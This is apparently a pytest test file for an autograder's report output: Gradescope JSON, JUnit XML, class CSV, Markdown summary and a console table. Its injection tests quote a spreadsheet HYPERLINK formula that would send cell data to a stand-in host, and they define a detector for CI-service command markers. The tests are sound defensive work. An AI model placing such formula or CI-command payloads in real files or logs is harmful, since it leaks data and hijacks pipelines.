"""What machines read: JSON for Gradescope, JUnit XML, CSV, Markdown; and the table."""

import csv
import json
import random
import re
from collections import Counter
from html import unescape
from io import StringIO
from xml.etree import ElementTree

import mistune
import pytest

from course.grading import report
from course.grading.grades import Graded, Submission, from_json, to_json
from tests.grading import hostile

RETRY = Submission("late.ipynb", "retry", "the box did not start")


# --- a submission -----------------------------------------------------------------------

# the fields of https://gradescope-autograders.readthedocs.io/en/latest/specs/
VISIBILITY = {"visible", "hidden", "after_due_date", "after_published"}
FORMAT = {"text", "html", "simple_format", "md", "ansi"}
WHOLE = {
    "score": float,
    "execution_time": float,
    "output": str,
    "output_format": FORMAT,
    "test_output_format": FORMAT,
    "test_name_format": FORMAT,
    "visibility": VISIBILITY,
    "stdout_visibility": VISIBILITY,
    "extra_data": dict,
    "tests": list,
    "leaderboard": list,
}
TEST = {
    "score": float,
    "max_score": float,
    "status": {"passed", "failed"},
    "name": str,
    "name_format": FORMAT,
    "number": str,
    "output": str,
    "output_format": FORMAT,
    "tags": list,
    "visibility": VISIBILITY,
    "extra_data": dict,
}


def fits(fields, specification):
    """Assert that each field is known and has a value that is allowed."""
    for key, value in fields.items():
        allowed = specification[key]
        if isinstance(allowed, set):
            assert value in allowed, key
        elif allowed is float:
            assert type(value) in (int, float), key
        else:
            assert type(value) is allowed, key


def test_results_have_the_fields_of_gradescope(graded):
    for made in [*graded.values(), *hostile.submissions()]:
        if made.status == "retry":
            continue
        fields = json.loads(report.results(made))
        fits(fields, WHOLE)
        for test in fields["tests"]:
            fits(test, TEST)
        assert fields["score"] == pytest.approx(sum(t["score"] for t in fields["tests"]))
        assert len(fields["tests"]) == len(made.questions)


def test_results_of_real_notebooks(graded):
    right = json.loads(report.results(graded["right"]))
    assert right["score"] == 6
    assert {t["name"]: t["status"] for t in right["tests"]} == {
        **dict.fromkeys(("running_sum", "slope_backward", "breaker"), "passed"),
        "sum_squares": "failed",
    }
    wrong = json.loads(report.results(graded["wrong"]))
    assert "You leave out x[k] itself." in wrong["tests"][0]["output"]
    broken = json.loads(report.results(graded["broken"]))
    assert broken["score"] == 0
    assert broken["output"] == graded["broken"].says
    assert "JSON" in broken["output"]


def test_what_is_to_be_graded_again_has_no_results(tmp_path, graded):
    """Gradescope then says that the autograder failed, and gives no points."""
    with pytest.raises(ValueError, match=r"late\.ipynb"):
        report.results(RETRY)
    report.write(tmp_path, graded["right"])
    assert (tmp_path / "results.json").exists()
    report.write(tmp_path, RETRY)
    files = {path.name for path in tmp_path.iterdir()}
    assert files == {"submission.json", "junit.xml", "student.html"}
    assert from_json((tmp_path / "submission.json").read_text("utf-8")) == RETRY


def test_a_submission_can_be_read_again(graded):
    for made in graded.values():
        assert from_json(to_json(made)) == made


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ('"points": 3.0', '"points": NaN'),
        ('"points": 3.0', '"points": 3.5'),
        ('"points": 3.0', '"points": -1'),
        ('"points": 3.0', '"points": "3"'),
        ('"worth": 3', '"worth": true'),
        ('"lines": [', '"lines": [1,'),
        ('"status": "graded"', '"status": "perfect"'),
        ('"isolation": "none"', '"isolation": "very"'),
        ('"version": 1', '"version": 2'),
        ('"version": 1', '"version": 1, "more": 1'),
        ('"state"', '"estate"'),
    ],
)
def test_what_is_no_submission_is_refused(graded, before, after):
    text = to_json(graded["right"])
    assert before in text
    with pytest.raises(ValueError):
        from_json(text.replace(before, after, 1))


# What the XML schema of Jenkins' xUnit plug-in (junit-10.xsd) allows: for each element its
# attributes, those that must be there, and what may be in it.
JUNIT = {
    "testsuites": ("name time tests failures errors", "", "testsuite"),
    "testsuite": (
        "name tests failures errors group time skipped timestamp hostname id package",
        "name tests failures errors",
        "testsuite properties testcase system-out system-err",
    ),
    "properties": ("", "", "property"),
    "property": ("name value", "name value", ""),
    "testcase": (
        "name time classname group",
        "name",
        "skipped error failure system-out system-err",
    ),
    "failure": ("type message", "", ""),
    "error": ("type message", "", ""),
}


def conforms(element):
    """Assert that the element fits the schema, and what is in it."""
    allowed, needed, inside = map(str.split, JUNIT[element.tag])
    assert set(needed) <= element.attrib.keys() <= set(allowed), element.tag
    assert {child.tag for child in element} <= set(inside), element.tag
    for child in element:
        conforms(child)


def test_junit_fits_the_schema_and_counts_right(graded):
    everyone = [*graded.values(), *hostile.submissions(), RETRY]
    whole = ElementTree.fromstring(report.class_junit(everyone).encode())
    conforms(whole)
    assert len(whole) == len(everyone)
    for made in everyone:
        suite = ElementTree.fromstring(report.junit(made).encode())
        conforms(suite)
        count = Counter(element.tag for element in suite.iter())
        for key, tag in (
            ("tests", "testcase"),
            ("failures", "failure"),
            ("errors", "error"),
        ):
            assert int(suite.get(key)) == count[tag]
            assert int(whole.get(key)) == sum(int(s.get(key)) for s in whole)


def test_junit_of_real_notebooks(graded):
    suite = ElementTree.fromstring(report.junit(graded["wrong"]))
    assert suite.get("name") == "00_sample"
    failure = suite.find("testcase[@name='running_sum']/failure")
    assert failure.get("type") == "wrong"
    assert "You leave out x[k] itself." in failure.text
    suite = ElementTree.fromstring(report.junit(graded["broken"]))
    assert suite.find("testcase/error").get("type") == "unusable"


# --- a class ----------------------------------------------------------------------------


def rows(everyone):
    """Return the rows of class.csv."""
    return list(csv.DictReader(StringIO(report.class_csv(everyone), newline="")))


def test_csv_has_a_row_for_each_and_a_column_for_each_question(graded):
    read = {row["file"]: row for row in rows([*graded.values(), RETRY])}
    assert len(read) == len(graded) + 1
    right = read["ann/00_sample.ipynb"]
    assert (right["points"], right["of"], right["status"]) == ("6", "10", "graded")
    assert (right["running_sum"], right["sum_squares"]) == ("3", "0")
    assert right["isolation"] == "none"
    late = read["late.ipynb"]
    assert (late["points"], late["of"], late["running_sum"]) == ("", "", "")
    broken = next(row for row in read.values() if row["status"] == "unusable")
    assert broken["points"] == "0"
    assert "JSON" in broken["says"]


def test_no_cell_is_a_formula(graded):
    text = report.class_csv([*graded.values(), *hostile.submissions()])
    read = list(csv.reader(StringIO(text, newline="")))
    assert len({len(row) for row in read}) == 1
    cells = [cell for row in read for cell in row]
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    for cell in cells:
        assert not cell.strip().startswith(tuple("=+-@\t\r＝＋－＠"))
        assert cell.isprintable()


def test_excel_is_told_that_names_are_utf_8(tmp_path):
    report.write_class(tmp_path, [Submission("Zoë.ipynb", "graded")])
    data = (tmp_path / "class.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert "Zoë" in data.decode("utf-8-sig")


def rendered(text):
    """Return the summary as HTML; raw HTML in it would stay."""
    plugins = ["table", "url", "strikethrough", "task_lists", "footnotes"]
    return mistune.create_markdown(escape=False, plugins=plugins)(text)


def table_of(html):
    """Return the cells of the table, as somebody reads them."""
    found = [
        re.findall(r"<td.*?>(.*?)</td>", row, re.DOTALL)
        for row in re.findall(r"<tr>(.*?)</tr>", html, re.DOTALL)
    ]
    return [[unescape(cell) for cell in row] for row in found if row]


def test_summary_says_who_has_what(graded):
    read = table_of(rendered(report.summary([*graded.values(), RETRY])))
    assert ["ann/00_sample.ipynb", "00_sample", "6/10", "sum_squares: missing"] in read
    assert ["late.ipynb", "", "retry", "the box did not start"] in read
    assert "NOT ISOLATED" in unescape(report.summary(graded.values()))


def test_nothing_in_the_summary_is_more_than_text():
    everyone = list(hostile.submissions())
    text = report.summary(everyone)
    html = rendered(text)
    tags = set(re.findall(r"<(/?\w+)", html))
    assert {tag.strip("/") for tag in tags} <= {
        *("h3", "p", "ul", "li", "table", "thead", "tbody", "tr", "th", "td")
    }
    read = table_of(html)
    assert len(read) == len(everyone)
    assert all(len(row) == 4 for row in read)
    assert any(row[0] == '=HYPERLINK("http://127.0.0.1:9/?"&A1,"click")' for row in read)
    assert not is_command(text)


def test_summary_of_a_large_class_is_below_the_limit_of_github():
    question = Graded("q" * 5000, 1, 0.0, "wrong")
    everyone = [
        Submission(f"{k}" + "<" * 1000, "graded", questions=(question,) * 40)
        for k in range(20_000)
    ]
    text = report.summary(everyone)
    assert 500_000 < len(text.encode()) < 1024 * 1024
    *_, last = text.strip().splitlines()
    shown = text.count("\n| ") - 2  # the head and the line below it
    assert last == f"{20_000 - shown} more are in class.csv."


def test_the_order_in_which_results_come_changes_nothing(graded, tmp_path):
    everyone = [*graded.values(), *hostile.submissions(), RETRY]
    report.write_class(tmp_path / "a", everyone)
    random.Random(1).shuffle(everyone)
    report.write_class(tmp_path / "b", everyone)
    files = {path.name for path in (tmp_path / "a").iterdir()}
    assert files == {"class.csv", "class-junit.xml", "summary.md", "teacher.html"}
    for name in files:
        same = (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes()
        assert same, name


def test_a_class_of_nobody_has_its_files_too(tmp_path):
    report.write_class(tmp_path, [])
    assert len(list(tmp_path.iterdir())) == 4


# --- the table --------------------------------------------------------------------------


def is_command(text):
    """Say whether a CI service finds a command in what is printed.

    GitHub's runner takes :: at the beginning of a line, after blanks, and ##[ anywhere;
    Azure Pipelines takes ##vso[.
    """
    return any(
        line.lstrip().startswith("::") or "##[" in line or "##vso[" in line
        for line in text.splitlines()
    )


def test_what_is_printed_is_no_command_of_a_ci_service():
    assert is_command("\n".join(hostile.TEXTS))
    for made in hostile.submissions():
        text = report.table(made)
        assert not is_command(text)
        assert all(line.isprintable() for line in text.split("\n"))


def test_the_table_says_what_is_wrong(graded):
    lines = report.table(graded["wrong"]).splitlines()
    assert lines[0] == "bob/00_sample.ipynb (exercise 00_sample)"
    assert lines[2].split() == [
        "running_sum",
        "0/3",
        "wrong",
        "You",
        "leave",
        "out",
        "x[k]",
        "itself.",
    ]
    assert lines[-1].split() == ["total", "0/10"]


def test_the_table_says_why_a_file_has_no_points(graded):
    assert "unusable" in report.table(graded["broken"])
    assert "JSON" in report.table(graded["broken"])
    assert report.table(RETRY) == "late.ipynb: retry: the box did not start"
